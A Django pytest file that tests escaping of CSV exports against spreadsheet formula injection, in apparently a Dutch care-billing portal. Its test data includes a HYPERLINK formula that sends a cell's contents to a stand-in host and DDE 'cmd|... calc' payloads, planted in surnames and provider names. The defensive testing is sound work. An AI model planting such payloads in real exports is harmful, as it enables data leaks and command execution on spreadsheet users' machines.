"""Exports that a spreadsheet opens: no cell may run as a formula (issue #13, ADR 0009)."""

import csv
import io
from datetime import date

from django.urls import reverse

import pytest

from openarrangementen.accounts.models import Provider
from openarrangementen.billing.tests.test_reports import declared as declared  # noqa: F401
from openarrangementen.billing.tests.test_reports import started as started  # noqa: F401
from openarrangementen.cases.tests import flow
from openarrangementen.clients.models import Client
from openarrangementen.contributions.tests.support import supported_from
from openarrangementen.core.exports import csv_bytes, safe_cell

LEAK = '=HYPERLINK("http://x.example/?leak="&A2,"y")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (LEAK, "'" + LEAK),
        ("+31 6 1234 5678 + A1", "'+31 6 1234 5678 + A1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Verbeek", "Verbeek"),
        ("L. =Verbeek", "L. =Verbeek"),  # only the first character counts
        ("-12,50", "-12,50"),  # a credit stays a number
        ("+1.234,56", "+1.234,56"),
        ("-", "'-"),
        ("", ""),
        (12, 12),
    ],
)
def test_a_cell_a_spreadsheet_would_run_becomes_text(cell, expected):
    assert safe_cell(cell) == expected


def test_the_csv_helper_makes_header_and_every_cell_safe():
    content = csv_bytes(["=kop"], [[LEAK, "-3,00"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["'=kop"], ["'" + LEAK, "-3,00"]]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.usefixtures("demo")
def test_the_cak_export_does_not_leak_the_bsn_column_through_a_surname(client):
    traject = supported_from(date(2025, 3, 14))
    Client.objects.filter(pk=traject.client_id).update(initials="", family_name=LEAK)
    client.force_login(flow.user("almere.pa"))
    rows = _rows(client.get(reverse("portal:cak-contributions-csv"), {"periode": "2025-04"}))
    assert rows[1][1] == "'" + LEAK
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.usefixtures("demo")
def test_the_spending_export_neutralises_a_provider_name(client, declared):
    Provider.objects.filter(agb_code="75000101").update(name="@SUM(1+9)*cmd")
    client.force_login(flow.user("almere.contractmanager"))
    response = client.get(
        reverse("portal:billing-spending"), {"van": "2026-03", "tot": "2026-03", "format": "csv"}
    )
    rows = _rows(response)
    assert rows[1][1] == "'@SUM(1+9)*cmd"
